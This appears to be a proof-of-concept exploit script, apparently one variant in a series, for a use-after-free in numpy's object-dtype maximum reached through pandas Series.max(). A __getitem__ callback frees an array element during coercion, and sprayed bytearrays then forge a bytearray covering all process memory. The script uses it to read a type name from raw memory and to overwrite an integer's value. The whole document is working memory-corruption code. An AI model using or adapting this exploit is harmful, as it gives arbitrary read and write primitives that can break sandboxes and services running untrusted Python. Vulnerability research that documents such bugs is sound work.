# source: numpy 1.24 umath/funcs.inc.src npy_ObjectMax/npy_ObjectMin: PyObject_RichCompareBool(i1, i2, Py_GE/LE) then Py_INCREF(result) on a borrowed pointer; the reflected ndarray comparison coerces the other operand through __len__/__getitem__ (array_coercion.c)
# family: object ufunc maximum/minimum (and reductions built on it) UAF through implicit array coercion; variant: series_max
# goal: freed object handed back in the result -> forged bytearray over all memory -> arbitrary read (tp_name) and write (an int's digits)
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


class Seq:
    __slots__ = ("p", "q", "r", "s", "t", "u", "v")

    def __len__(self):
        return 1

    def __getitem__(self, i):
        if i == 0:
            arr[1] = None
            return 9
        raise IndexError(i)


class Holder:
    __slots__ = ("p",)


def addr_of(obj):
    # default repr: "<__main__.X object at 0x...>"
    return int(repr(obj).rsplit(" ", 1)[1].rstrip(">"), 16)


def type_addr(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


def q(v):
    return (v & MASK).to_bytes(8, "little")


arr = np.empty(2, dtype=object)
arr[0] = np.array([5])
arr[1] = Seq()
victim = addr_of(arr[1])
tba = type_addr(bytearray)
big = (1 << 63) - 1
fake = q(0x100000) + q(tba) + q(big) + q(big) + q(0) + q(0) + q(0)
payload = b"\x00" * 16 + fake + b"\x00" * (95 - 16 - len(fake))
spray = [None] * 64
print("victim", hex(victim), "bytearray type", hex(tba), flush=True)
res = [pd.Series(arr).max()]
for k in range(64):
    spray[k] = bytearray(payload)
mem = res[0]
print("forged:", type(mem) is bytearray, flush=True)
if type(mem) is bytearray:
    name_ptr = int.from_bytes(mem[tba + 24:tba + 32], "little")
    name = bytes(mem[name_ptr:name_ptr + 16]).split(b"\x00")[0]
    print("tp_name read from raw memory:", name, flush=True)
    h = Holder()
    h.p = 1000000 + len(payload)
    ha = addr_of(h)
    ip = int.from_bytes(mem[ha + 16:ha + 24], "little")
    print("int object at", hex(ip), "digit", int.from_bytes(mem[ip + 24:ip + 28], "little"), flush=True)
    mem[ip + 24:ip + 28] = (777777).to_bytes(4, "little")
    print("after raw write, h.p =", h.p, flush=True)
